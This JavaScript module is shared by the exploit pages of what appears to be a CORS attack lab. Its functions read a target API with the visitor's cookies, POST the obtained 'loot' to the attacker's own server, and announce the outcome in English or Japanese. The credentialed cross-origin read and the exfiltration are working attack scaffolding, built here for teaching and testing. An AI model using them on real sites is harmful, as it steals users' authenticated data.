// What every exploit page shares: its configuration, the tagged API URLs, reporting the
// loot to the attacker's own server (its access log shows it), and showing the outcome.
// Paths are relative to the page (`/<id>/`), wherever its router is mounted.

export const config = JSON.parse(document.getElementById("config").textContent);

const ja = config.lang === "ja";

/** `path` on the attacked mount, tagged for the lab's exchange log. */
export function apiUrl(path, credentials) {
  const url = new URL(config.api + path);
  if (config.lab) url.searchParams.set("lab", `${config.lab}.${credentials}`);
  return url.href;
}

/** `fetch(url)` with the visitor's cookies: the status and JSON body, or the browser's error. */
export async function readWithCookies(url) {
  try {
    const res = await fetch(url, { credentials: "include" });
    return { status: res.status, body: await res.json().catch(() => null) };
  } catch (e) {
    return { error: `${e.name}: ${e.message}` };
  }
}

/** Sends what the attack obtained to the attacker's server, as a real exploit would. */
export async function report(loot) {
  const url = new URL("loot", location.href);
  if (config.lab) url.searchParams.set("lab", config.lab);
  try {
    await fetch(url, { method: "POST", body: JSON.stringify(loot), headers: { "Content-Type": "text/plain" } });
  } catch {
    // The page shows the outcome either way.
  }
}

/** How an outcome is announced: a trap springs, an attack succeeds. */
const HEADLINES = config.kind === "page_calls"
  ? { succeeded: { en: "The trap sprang", ja: "罠にかかりました" }, failed: { en: "The trap did not show", ja: "罠は現れませんでした" } }
  : { succeeded: { en: "The attack succeeded", ja: "攻撃は成功しました" }, failed: { en: "The attack failed", ja: "攻撃は失敗しました" } };

/** Shows the outcome and marks the page with it (`data-outcome`, for the lab and its tests). */
export function finish(succeeded, loot, summary) {
  const result = succeeded ? "succeeded" : "failed";
  document.body.dataset.outcome = result;
  const headline = HEADLINES[result];
  const outcome = document.getElementById("outcome");
  outcome.textContent = ja ? `${headline.ja}: ${summary.ja}` : `${headline.en}: ${summary.en}`;
  document.getElementById("loot").textContent = JSON.stringify(loot, null, 2);
  window.corslabLoot = loot;
}

/**
 * A window named `name`, blank, for the top-level navigations an attack makes; where the
 * browser blocks pop-ups without a click, a button (`label`, {en, ja}) asks for one.
 */
export async function openWindow(name, label) {
  const opened = window.open("about:blank", name);
  if (opened) return opened;
  const button = document.createElement("button");
  button.textContent = ja ? label.ja : label.en;
  document.getElementById("outcome").before(button);
  await new Promise((resolve) => button.addEventListener("click", resolve, { once: true }));
  button.remove();
  return window.open("about:blank", name);
}
